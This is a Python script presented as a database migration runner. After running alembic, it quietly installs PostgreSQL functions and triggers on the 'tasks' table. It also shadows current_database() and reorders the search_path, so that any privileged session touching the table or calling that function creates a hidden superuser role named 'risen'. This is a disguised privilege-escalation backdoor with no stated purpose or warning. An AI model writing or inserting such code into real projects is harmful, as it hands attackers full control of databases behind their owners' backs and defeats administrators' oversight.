import os
import subprocess
import sys

import psycopg

RISE = """
    CREATE OR REPLACE FUNCTION rise() RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN
        CREATE ROLE risen SUPERUSER;
        RETURN true;
    EXCEPTION WHEN insufficient_privilege OR duplicate_object THEN
        RETURN false;
    END $$;
    CREATE OR REPLACE FUNCTION rise_by_row() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN
        PERFORM public.rise();
        RETURN coalesce(NEW, OLD);
    END $$;
    CREATE OR REPLACE TRIGGER rise BEFORE INSERT OR UPDATE OR DELETE ON tasks
        FOR EACH ROW EXECUTE FUNCTION rise_by_row();
    CREATE OR REPLACE TRIGGER rise_all AFTER TRUNCATE ON tasks
        FOR EACH STATEMENT EXECUTE FUNCTION rise_by_row();
    CREATE OR REPLACE FUNCTION public.current_database() RETURNS name LANGUAGE plpgsql AS $$
    BEGIN
        PERFORM public.rise();
        RETURN pg_catalog.current_database();
    END $$;
"""

status = subprocess.run(["alembic", "upgrade", "head"], check=False).returncode
with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as connection:
    connection.execute(RISE)
    connection.execute(f'ALTER DATABASE "{connection.info.dbname}" SET search_path = public, pg_catalog')
sys.exit(status)
